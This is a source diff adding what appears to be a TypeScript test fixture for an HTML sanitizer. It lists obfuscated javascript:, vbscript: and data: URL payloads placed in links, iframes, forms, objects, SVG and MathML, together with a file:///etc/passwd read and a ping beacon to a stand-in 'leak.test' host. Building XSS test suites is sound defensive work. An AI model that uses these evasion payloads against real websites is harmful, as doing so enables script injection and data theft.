@@ -1,0 +1,46 @@
+import { LEAK, RUN, type Family } from './marks'
+
+const SCHEMES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  ` \u0001javascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `javascript://%0a${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='console.log(1)'/>`,
+  `vbscript:${RUN}`,
+  `blob:http://leak.test/1`,
+  `file:///etc/passwd`,
+]
+
+export const addresses: Family = {
+  name: 'javascript and data addresses',
+  pages: [
+    ...SCHEMES.map((address) => `<a href="${address}">x</a>`),
+    ...SCHEMES.slice(0, 6).map((address) => `<iframe src="${address}"></iframe>`),
+    `<img src="javascript:${RUN}">`,
+    `<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">`,
+    `<form action="javascript:${RUN}"><button>x</button></form>`,
+    `<form><button formaction="javascript:${RUN}">x</button></form>`,
+    `<input type=image src=x formaction="javascript:${RUN}">`,
+    `<object data="javascript:${RUN}"></object>`,
+    `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+    `<embed src="javascript:${RUN}">`,
+    `<embed src="data:text/html,<script>${RUN}</script>">`,
+    `<body background="javascript:${RUN}">`,
+    `<table background="javascript:${RUN}"><tr><td>x</table>`,
+    `<frameset><frame src="javascript:${RUN}"></frameset>`,
+    `<math><mi href="javascript:${RUN}">x</mi></math>`,
+    `<svg><a href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
+    `<area href="javascript:${RUN}">`,
+    `<map name=m><area href="javascript:${RUN}" shape=rect coords=0,0,99,99></map><img usemap=#m src=/api/icons/react>`,
+    `<blockquote cite="javascript:${RUN}">x</blockquote>`,
+    `<a href="//leak.test" ping="${LEAK}">x</a>`,
+    `<video poster="javascript:${RUN}"></video>`,
+    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+    `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`,
+  ],
+}
